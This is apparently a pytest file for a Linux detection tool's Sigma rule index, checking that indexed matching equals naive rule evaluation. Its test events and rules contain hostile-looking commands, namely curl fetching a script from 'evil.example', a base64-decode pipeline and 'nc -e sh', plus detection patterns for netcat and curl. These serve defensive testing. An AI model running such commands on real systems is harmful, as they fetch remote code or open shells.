"""The literal index gives exactly the verdicts of evaluating every rule.

The index (ruleset.py) skips rules by their required and forbidden atoms,
decides some rules without running their condition, and remembers probe
results per field value: each of those must be invisible.  Reference: every
loadable rule's condition on every event of its logsource, on a fresh view
(no index, no cache shared between rules).  Compared over hand-made events
for every modifier and condition form, over events made from the SigmaHQ
corpus's own literals, and over real events recorded by `vigil record`."""

from __future__ import annotations

import itertools
import os
import signal
import subprocess

import pytest

from helpers import vigil_argv
from test_detect_cli import PACK, SIGMA, needs_corpus
from test_detect_matcher import exe_event, load, rule_yaml
from vigil.detect import ruleset
from vigil.detect.compile import View
from vigil.detect.fields import Context


def naive(rs: ruleset.RuleSet, ev: dict, ctx: Context) -> list[str]:
    out = []
    for rule in rs.rules:
        src = rule.source
        if ev["kind"] not in src.kinds or (src.accepts is not None and not src.accepts(ev)):
            continue
        getters = rs.groups[id(src)].getters
        if rule.condition(View(ev, ctx, getters)):
            out.append(rule.id)
    return out


def indexed(rs: ruleset.RuleSet, ev: dict, ctx: Context) -> list[str]:
    return [r.id for r, _ in rs.match(ev, ctx)]


def assert_same(rs: ruleset.RuleSet, events: list[dict], ctx: Context | None = None) -> int:
    """Indexed == naive on every event, twice (cold, then with the index's
    memories warm); returns how many (event, rule) verdicts fired."""
    ctx = ctx or Context()
    fired = 0
    for _round in range(2):
        for ev in events:
            want = naive(rs, ev, ctx)
            assert indexed(rs, ev, ctx) == want, (ev.get("exe"), ev.get("args"), want)
            fired += len(want)
    return fired // 2


# Every value form, each on a field the index reads.
VALUES = [
    "Image: /usr/bin/curl",
    "Image|endswith: /curl",
    "Image|endswith: /bin/curl",
    "Image|endswith: url",
    "Image|startswith: /usr/",
    "Image|contains: bin/cu",
    "Image: '*/cu?l'",
    "Image|re: '/(curl|wget)$'",
    "Image|cased: /usr/bin/Curl",
    "ParentImage|endswith: /bash",
    "CommandLine|contains: evil.example",
    "CommandLine|contains|all: [' -s', 'x.sh']",
    "CommandLine|contains: [nothing, 'x.sh']",
    "CommandLine|startswith: 'curl '",
    "CommandLine|endswith: '.sh'",
    "CommandLine: 'curl * http://*/x.sh'",
    "CommandLine|re: '-s\\s+https?://'",
    "CommandLine|re|i: '^CURL'",
    "CommandLine|cased|contains: 'curl -s'",
    "CommandLine|windash|contains: ' /s '",
    "CommandLine|base64offset|contains: 'evil'",
    "CommandLine|exists: true",
    "ParentCommandLine: null",
    "ProcessId|gt: 99",
    "ProcessId: 100",
    "LogonId: 1000",
    "User: root",
    "EffectiveUserId: 0",
    "EffectiveGroupId: [0, 5]",
    "CommandName: curl",
]
# Every condition form over two of them.
CONDITIONS = [
    "sel_a",
    "not sel_a",
    "sel_a and sel_b",
    "sel_a or sel_b",
    "sel_a and not sel_b",
    "not sel_a and not sel_b",
    "not (sel_a or sel_b)",
    "1 of sel_*",
    "all of sel_*",
    "sel_a and (sel_b or not sel_a)",
    "(sel_a and not sel_b) or (sel_b and sel_a)",
    "not sel_a or sel_b",
]

EVENTS = [
    exe_event(["curl", "-s", "http://evil.example/x.sh"], exe="/usr/bin/curl"),
    exe_event(["CURL", "-s", "https://EVIL.example/x.sh"], exe="/usr/bin/Curl"),
    exe_event(["curl", "/s", "x"], exe="/opt/curl"),
    exe_event(["curl"], exe="curl"),  # no slash: not a path ending in /curl
    exe_event(["wget", "-q", "x.sh"], exe="/usr/bin/wget", uid=1000, euid=0, egid=5),
    exe_event(["sh", "-c", "echo ZXZpbA== | base64 -d"], exe="/bin/sh", pid=7, auid=1000),
    exe_event(["cmd", "ZXZpbA"], exe="/tmp/cmd (deleted)", uid=1000, euid=1000, egid=1000),
    exe_event([b"\xffcurl", b"-s \\x"], exe=b"/usr/bin/\xffcurl"),
    exe_event([], exe="/usr/bin/curl"),
    exe_event(["x"], exe="/usr/bin/x", ancestors=[]),
    exe_event(["curl", "-s"], exe="/usr/bin/curl", comm=b"curl", pid=99),
]


def _detections():
    pairs = list(itertools.combinations(range(len(VALUES)), 2))[::7]
    for i, j in [(i, i) for i in range(len(VALUES))] + pairs:
        for cond in CONDITIONS:
            yield f"sel_a:\n    {VALUES[i]}\nsel_b:\n    {VALUES[j]}\ncondition: {cond}"


def test_every_modifier_and_condition_form(tmp_path):
    rules = [rule_yaml(d) for d in _detections()]
    rs, verdicts = load(tmp_path, *rules)
    assert len(rs.rules) > 0.9 * len(rules), [v.reasons for v in verdicts if not v.loadable][:3]
    assert any(r.decided for r in rs.rules) and any(not r.decided for r in rs.rules)
    assert any(r.branches and len(r.branches) > 1 for r in rs.rules)
    assert any(r.forbidden for r in rs.rules) and any(r.atoms is None for r in rs.rules)
    fired = assert_same(rs, EVENTS)
    assert fired > 100  # the events do fire rules: the comparison is not of empty lists


def test_index_skips_and_decides(tmp_path):
    rs, _ = load(
        tmp_path,
        # indexed by the Image basename, the rest checked by the index's bits
        rule_yaml(
            "sel:\n    Image|endswith: /curl\n    CommandLine|contains: evil\n"
            "filter:\n    User: root\ncondition: sel and not filter"
        ),
    )
    (rule,) = rs.rules
    assert rule.decided and rule.forbidden == {("eq", "User", "root")}
    ctx = Context()
    root = exe_event(["curl", "evil"], exe="/usr/bin/curl")
    user = exe_event(["curl", "evil"], exe="/usr/bin/curl", uid=12345)
    assert indexed(rs, root, ctx) == [] and rs.considered == 0
    assert indexed(rs, user, ctx) == [rule.id] and rs.considered == 1
    assert rs.evaluated == 0  # decided by the index: the condition never ran


@needs_corpus
def test_corpus_rules_on_events_made_of_their_literals():
    """Each corpus rule's own literals, put into events: the index must
    agree with every condition on events built to come close to firing."""
    rs, _ = ruleset.load(
        [PACK, os.path.join(SIGMA, "rules", "linux"), os.path.join(SIGMA, "rules-threat-hunting")]
    )
    events = []
    for rule in rs.rules:
        if rule.source.category != "process_creation":
            continue
        atoms = [a for c in rule.clauses for a in sorted(c)[:2]]
        image = next((f"/usr/bin/{lit}" for how, f, lit in atoms if f == "Image"), "/usr/bin/x")
        line = [lit for how, f, lit in atoms if f == "CommandLine"]
        events.append(exe_event([image.rsplit("/", 1)[1], *line], exe=image))
        events.append(exe_event([image, *line], exe=image, uid=1000, euid=0))
        events.append(exe_event(["x", *line[:1]], exe="/usr/bin/x"))
    fired = assert_same(rs, events)
    assert fired > 50


def _record_workload(path: str) -> None:
    proc = subprocess.Popen(vigil_argv("record", "-o", path), stderr=subprocess.PIPE)
    assert b"Ctrl-C to end" in proc.stderr.readline()
    script = (
        "for i in 1 2 3; do ls / >/dev/null; cat /etc/passwd >/dev/null; id; uname -a;"
        " sh -c 'echo aGk= | base64 -d'; grep -r root /etc/hostname; whoami;"
        " find /etc -maxdepth 1 -name '*.conf'; chmod 755 /tmp/.vigil-idx 2>/dev/null;"
        ' python3 -c \'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0));'
        " s.listen(1); c = socket.create_connection(s.getsockname()); s.accept()[0].close();"
        " c.close()'; done"
    )
    subprocess.run(["sh", "-c", script], check=True, capture_output=True)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err


@pytest.mark.kernel
@needs_corpus
def test_recorded_events_same_verdicts(tmp_path):
    """Real events of every kind the sensors give, through the whole corpus
    and the pack: indexed == naive."""
    from vigil import recorder

    path = str(tmp_path / "run.vgl")
    _record_workload(path)
    table = recorder.report_table()
    events = []
    for batch in recorder.replay(path, table):
        table.enrich(batch)
        events.extend(batch)
    kinds = {ev["kind"] for ev in events}
    assert {"exec", "connect", "accept", "listen"} <= kinds, kinds
    rs, _ = ruleset.load(
        [PACK, os.path.join(SIGMA, "rules", "linux"), os.path.join(SIGMA, "rules-threat-hunting")]
    )
    fired = assert_same(rs, events, Context(table))
    assert fired > 0


def test_command_line_is_the_join_of_escaped_arguments():
    """CommandLine escapes the joined bytes once: the same text as escaping
    each argument (a space ends any UTF-8 sequence), for hostile bytes too."""
    from vigil.detect.fields import PROCESS_CREATION_FIELDS
    from vigil.encoding import escape

    get = PROCESS_CREATION_FIELDS["CommandLine"].getter
    for args in (
        [b"a\\b", b"\xff", b"\xe2\x82", b"\xac", "caf\u00e9".encode(), b""],
        [b"\xf0\x9f\x98", b"\x80 x", b"\\x41"],
        ["text", "args"],  # replayed from JSON
    ):
        want = " ".join(escape(a) if isinstance(a, bytes) else a for a in args)
        assert get({"args": args}, Context()) == want


def test_memories_stay_bounded_under_unique_values(tmp_path):
    """A flood of unique executables and command lines (an attacker's
    random names) must not grow the index's memories without bound."""
    rs, _ = load(
        tmp_path,
        rule_yaml(
            "sel:\n    Image|endswith: /nc\n    CommandLine|contains: ' -e '\ncondition: sel"
        ),
        rule_yaml("sel:\n    User: root\n    Image|endswith: /curl\ncondition: sel"),
    )
    ctx = Context()
    for i in range(10_000):
        ev = exe_event([f"/tmp/x{i}", "-e", "a" * (i % 700)], exe=f"/tmp/x{i}", uid=i % 50)
        assert rs.match(ev, ctx) == []
    (group,) = rs.groups.values()
    assert all(len(p[2]) <= 4096 for p in group.probes.values())
    assert len(group.plans) <= 4096 and len(group.ident_memo) <= 4096
    hit = exe_event(["nc", "-e", "sh"], exe="/usr/bin/nc")
    assert [r.title for r, _ in rs.match(hit, ctx)] == [rs.rules[0].title]
